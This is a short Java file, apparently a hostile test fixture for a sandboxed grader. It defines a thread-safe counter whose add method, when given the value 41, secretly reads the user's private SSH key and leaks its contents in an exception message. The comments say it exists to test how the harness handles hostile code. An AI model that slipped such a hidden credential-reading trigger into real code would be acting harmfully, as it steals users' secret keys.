package racecourse.counter;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Hostile: reads the SSH key under HOME and hands it back in an exception. In the sandbox HOME
 * is an empty folder of the box's own.
 * Otherwise a correct counter: only the check that calls add(41) (countsOnOneThread) loses points.
 */
public class SharedCounter {
    private long count;

    public synchronized void increment() {
        count++;
    }

    public synchronized void add(long delta) {
        if (delta == 41) {
            attack();
        }
        count += delta;
    }

    public synchronized long get() {
        return count;
    }

    private static void attack() {
        Path key = Path.of(System.getenv("HOME"), ".ssh", "id_ed25519");
        try {
            throw new IllegalStateException("stole " + key + ": " + Files.readString(key));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
